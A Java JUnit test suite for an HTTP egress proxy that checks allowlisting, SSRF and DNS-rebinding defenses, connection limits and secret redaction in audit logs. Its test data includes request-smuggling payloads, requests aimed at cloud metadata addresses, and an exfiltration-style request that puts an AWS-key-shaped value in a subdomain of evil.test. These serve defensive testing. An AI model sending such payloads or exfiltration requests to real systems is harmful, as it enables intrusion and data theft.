package io.claudebottle.egress;

import org.junit.jupiter.api.Test;

import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/** Plain-HTTP forwarding, allowlist, address checks, request smuggling, limits and audit. */
class EgressHttpTest extends ProxyTestBase {


    @Test
    void forwardsAnAllowedRequestInOriginFormWithoutHopByHopHeaders() throws Exception {
        fx.start(b -> b.allowlist(List.of(target())));
        try (Raw c = Raw.to(fx.port())) {
            c.send("GET http://" + target() + "/a/b?x=1 HTTP/1.1\r\nHost: " + target()
                    + "\r\nProxy-Authorization: Basic Zm9vOmJhcg==\r\nX-Keep: yes\r\nConnection: keep-alive, X-Conn-Private"
                    + "\r\nX-Conn-Private: 1\r\nkEEp-aLIVE: timeout=5\r\npRoXy-CoNnEcTiOn: keep-alive\r\nTE: trailers\r\n\r\n");
            Raw.Response r = c.read();
            assertThat(r.status()).isEqualTo(200);
            assertThat(r.body()).isEqualTo("ok GET /a/b?x=1 0");
            // keep-alive: a second request on the same connection
            c.send("POST http://" + target() + "/second HTTP/1.1\r\nHost: " + target()
                    + "\r\nContent-Length: 5\r\n\r\nhello");
            assertThat(c.read().body()).isEqualTo("ok POST /second 5");
        }
        assertThat(up.seen).hasSize(2);
        assertThat(up.seen.get(0).headers.get("X-Keep")).isEqualTo("yes");
        for (String hop : List.of("Proxy-Authorization", "Connection", "X-Conn-Private", "Keep-Alive", "Proxy-Connection", "TE")) {
            assertThat(up.seen.get(0).headers.contains(hop)).as(hop).isFalse();
        }
        assertThat(fx.auditText()).contains("\"decision\":\"allow\"").contains("\"path\":\"/a/b?x=\"");
    }

    @Test
    void worksWithAStockClient() throws Exception {
        fx.start(b -> b.allowlist(List.of(target())));
        var client = fx.client();
        for (int i = 0; i < 3; i++) {
            HttpResponse<String> r = client.send(HttpRequest.newBuilder(URI.create("http://" + target() + "/n" + i))
                    .POST(HttpRequest.BodyPublishers.ofString("body" + i)).build(), HttpResponse.BodyHandlers.ofString());
            assertThat(r.statusCode()).isEqualTo(200);
            assertThat(r.body()).isEqualTo("ok POST /n" + i + " 5");
        }
    }

    @Test
    void refusesHostsNotOnTheAllowlistWithJsonAndHeader() throws Exception {
        fx.start(b -> b.allowlist(List.of(target())));
        HttpResponse<String> r = fx.client().send(HttpRequest.newBuilder(URI.create("http://other.test:" + up.port() + "/x"))
                .build(), HttpResponse.BodyHandlers.ofString());
        assertThat(r.statusCode()).isEqualTo(403);
        assertThat(r.headers().firstValue("X-Bottle-Block")).hasValue("host-not-allowed");
        assertThat(r.body()).contains("\"blocked\":\"host-not-allowed\"").contains("\"host\":\"other.test\"");
        assertThat(up.seen).isEmpty();
        assertThat(fx.auditText()).contains("\"decision\":\"deny\"").contains("host-not-allowed");
    }

    @Test
    void wildcardAndPortRulesApplyToRealRequests() throws Exception {
        fx.name("api.wild.test", "127.0.0.1").name("wild.test", "127.0.0.1");
        fx.start(b -> b.allowlist(List.of("*.wild.test:" + up.port())));
        var client = fx.client();
        assertThat(client.send(HttpRequest.newBuilder(URI.create("http://api.wild.test:" + up.port() + "/")).build(),
                HttpResponse.BodyHandlers.ofString()).statusCode()).isEqualTo(200);
        assertThat(client.send(HttpRequest.newBuilder(URI.create("http://wild.test:" + up.port() + "/")).build(),
                HttpResponse.BodyHandlers.ofString()).statusCode()).isEqualTo(403);
        // the default-port form does not open other ports
        assertThat(client.send(HttpRequest.newBuilder(URI.create("http://api.wild.test/")).build(),
                HttpResponse.BodyHandlers.ofString()).statusCode()).isEqualTo(403);
    }

    @Test
    void refusesIpLiteralsAndPrivateResolutionsUnlessAllowed() throws Exception {
        fx.name("internal.test", "127.0.0.1").name("metadata.test", "169.254.169.254").name("mapped.test", "::ffff:127.0.0.1");
        fx.start(b -> b.allowAddresses(List.of())
                .allowlist(List.of(target(), "127.0.0.1:" + up.port(), "internal.test:" + up.port(),
                        "metadata.test", "mapped.test:" + up.port(), "2130706433:" + up.port())));
        var client = fx.client();
        for (String url : List.of("http://127.0.0.1:" + up.port() + "/", "http://internal.test:" + up.port() + "/",
                "http://metadata.test/latest/meta-data/", "http://mapped.test:" + up.port() + "/")) {
            HttpResponse<String> r = client.send(HttpRequest.newBuilder(URI.create(url)).build(), HttpResponse.BodyHandlers.ofString());
            assertThat(r.statusCode()).as(url).isEqualTo(403);
            assertThat(r.body()).as(url).containsAnyOf("ip-literal", "address-not-allowed");
        }
        try (Raw c = Raw.to(fx.port())) {
            c.send("GET http://2130706433:" + up.port() + "/ HTTP/1.1\r\nHost: 2130706433:" + up.port() + "\r\n\r\n");
            assertThat(c.read().status()).isIn(400, 403);
        }
        assertThat(up.seen).isEmpty();
    }

    @Test
    void anExplicitlyAllowedIpLiteralIsDialled() throws Exception {
        fx.start(b -> b.allowlist(List.of("127.0.0.1:" + up.port())));
        HttpResponse<String> r = fx.client().send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + up.port() + "/ip")).build(),
                HttpResponse.BodyHandlers.ofString());
        assertThat(r.statusCode()).isEqualTo(200);

    }

    @Test
    void theResolvedAddressIsCheckedAndDialledNoRebinding() throws Exception {
        // The first answer passes the check; a resolver consulted again would hand out metadata.
        java.util.concurrent.atomic.AtomicInteger calls = new java.util.concurrent.atomic.AtomicInteger();
        fx.start(b -> b.allowlist(List.of(target())).resolver(host -> {
            int n = calls.incrementAndGet();
            return List.of(java.net.InetAddress.getByName(n == 1 ? "127.0.0.1" : "169.254.169.254"));
        }));
        try (Raw c = Raw.to(fx.port())) {
            for (int i = 0; i < 3; i++) {
                c.send("GET http://" + target() + "/r" + i + " HTTP/1.1\r\nHost: " + target() + "\r\n\r\n");
                assertThat(c.read().status()).isEqualTo(200);
            }
        }
        assertThat(calls.get()).isEqualTo(1);
    }

    @Test
    void hostHeaderMustMatchTheRequestUri() throws Exception {
        fx.start(b -> b.allowlist(List.of(target(), "other.test:" + up.port())));
        try (Raw c = Raw.to(fx.port())) {
            c.send("GET http://" + target() + "/ HTTP/1.1\r\nHost: other.test:" + up.port() + "\r\n\r\n");
            Raw.Response r = c.read();
            assertThat(r.status()).isEqualTo(421);
            assertThat(r.header("X-Bottle-Block")).isEqualTo("host-mismatch");
        }
        try (Raw c = Raw.to(fx.port())) {
            c.send("GET http://" + target() + "/ HTTP/1.1\r\nHost: " + target() + "\r\nHost: other.test\r\n\r\n");
            assertThat(c.read().status()).isEqualTo(400);
        }
        assertThat(up.seen).isEmpty();
    }

    @Test
    void originFormRequestsAreNotProxied() throws Exception {
        fx.start(b -> b.allowlist(List.of(target())));
        try (Raw c = Raw.to(fx.port())) {
            c.send("GET / HTTP/1.1\r\nHost: " + target() + "\r\n\r\n");
            assertThat(c.read().status()).isEqualTo(400);
        }
        assertThat(up.seen).isEmpty();
    }

    @Test
    void smugglingAttemptsAreRefused() throws Exception {
        fx.start(b -> b.allowlist(List.of(target())));
        String h = "POST http://" + target() + "/s HTTP/1.1\r\nHost: " + target() + "\r\n";
        List<String> attacks = List.of(
                h + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\n\r\n",
                h + "Content-Length: 4\r\nContent-Length: 40\r\n\r\nabcd",
                h + "Content-Length: 4\r\nContent-Length: 4\r\n\r\nabcd",
                h + "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n",
                h + "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
                h + "X-Folded: a\r\n Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\nabcd",
                h + "X-Folded: a\r\n\tb\r\nContent-Length: 4\r\n\r\nabcd");
        for (String attack : attacks) {
            try (Raw c = Raw.to(fx.port())) {
                c.send(attack);
                Raw.Response r = c.read();
                assertThat(r.status()).as(attack).isEqualTo(400);
                assertThat(c.closedByPeer()).as(attack).isTrue();
            }
        }
        assertThat(up.seen).isEmpty();
    }

    @Test
    void expectContinueIsAnsweredByTheProxyAfterThePolicyCheck() throws Exception {
        fx.start(b -> b.allowlist(List.of(target())));
        try (Raw c = Raw.to(fx.port())) {
            c.send("PUT http://" + target() + "/up HTTP/1.1\r\nHost: " + target()
                    + "\r\nContent-Length: 3\r\nExpect: 100-continue\r\n\r\n");
            Raw.Response cont = c.read();
            assertThat(cont.status()).isEqualTo(100);
            c.send("abc");
            assertThat(c.read().body()).isEqualTo("ok PUT /up 3");
        }
        try (Raw c = Raw.to(fx.port())) {
            c.send("PUT http://other.test:" + up.port() + "/up HTTP/1.1\r\nHost: other.test:" + up.port()
                    + "\r\nContent-Length: 3\r\nExpect: 100-continue\r\n\r\n");
            assertThat(c.read().status()).isEqualTo(403);
        }
        assertThat(up.seen).hasSize(1);
        assertThat(up.seen.getFirst().headers.contains("Expect")).isFalse();
    }

    @Test
    void chunkedRequestsAreForwarded() throws Exception {
        fx.start(b -> b.allowlist(List.of(target())));
        try (Raw c = Raw.to(fx.port())) {
            c.send("POST http://" + target() + "/c HTTP/1.1\r\nHost: " + target()
                    + "\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n6\r\n world\r\n0\r\n\r\n");
            assertThat(c.read().body()).isEqualTo("ok POST /c 11");
        }
        assertThat(up.seen.getFirst().bodyText()).isEqualTo("hello world");
    }

    @Test
    void oversizedHeadersGet431() throws Exception {
        fx.start(b -> b.allowlist(List.of(target())));
        try (Raw c = Raw.to(fx.port())) {
            c.send("GET http://" + target() + "/ HTTP/1.1\r\nHost: " + target() + "\r\nX-Big: " + "a".repeat(40_000) + "\r\n\r\n");
            assertThat(c.read().status()).isEqualTo(431);
        }
    }

    @Test
    void aSlowlorisClientIsCutOffAndConnectionsAreCapped() throws Exception {
        fx.start(b -> b.allowlist(List.of(target()))
                .limits(Limits.defaults().withHeadTimeout(Duration.ofMillis(300)).withMaxConnections(4)));
        try (Raw slow = Raw.to(fx.port())) {
            slow.send("GET http://" + target() + "/ HTTP/1.1\r\n");
            long t0 = System.nanoTime();
                for (int i = 0; i < 5 && !slow.socket.isClosed(); i++) {
                Thread.sleep(100);
                try {
                    slow.send("X-Drip-" + i + ": 1\r\n");
                } catch (java.io.IOException e) {
                    break;
                }
            }
            assertThat(slow.closedByPeer()).isTrue();
            assertThat(Duration.ofNanos(System.nanoTime() - t0)).isLessThan(Duration.ofSeconds(5));
        }
        List<Raw> held = new ArrayList<>();
        try {
            for (int i = 0; i < 4; i++) held.add(Raw.to(fx.port()));
            Thread.sleep(100);
            try (Raw extra = Raw.to(fx.port())) {
                assertThat(extra.read().status()).isEqualTo(503);
            }
        } finally {
            for (Raw r : held) r.close();
        }
    }

    @Test
    void auditLinesAreJsonAndCarryNoSecrets() throws Exception {
        String secret = "AKIAQYLPMN5HHHFPZAM2";
        fx.start(b -> b.allowlist(List.of(target())));
        var client = fx.client();
        client.send(HttpRequest.newBuilder(URI.create("http://" + target() + "/p?key=" + secret)).build(),
                HttpResponse.BodyHandlers.ofString());
        client.send(HttpRequest.newBuilder(URI.create("http://" + target() + "/ok?token=plainvalue")).build(),
                HttpResponse.BodyHandlers.ofString());
        client.send(HttpRequest.newBuilder(URI.create("http://" + secret + ".evil.test/"))
                .build(), HttpResponse.BodyHandlers.ofString());
        String audit = fx.auditText();
        assertThat(audit.lines()).hasSizeGreaterThanOrEqualTo(3);
        for (String line : audit.lines().toList()) {
            assertThat(new tools.jackson.databind.ObjectMapper().readTree(line).get("service").asString()).isEqualTo("egress");
        }
        assertThat(audit).doesNotContain(secret).doesNotContainIgnoringCase(secret).doesNotContain("plainvalue");
        assertThat(audit).contains("\"rule\":\"aws-access-key-id\"").contains("/ok?token=");
    }
}
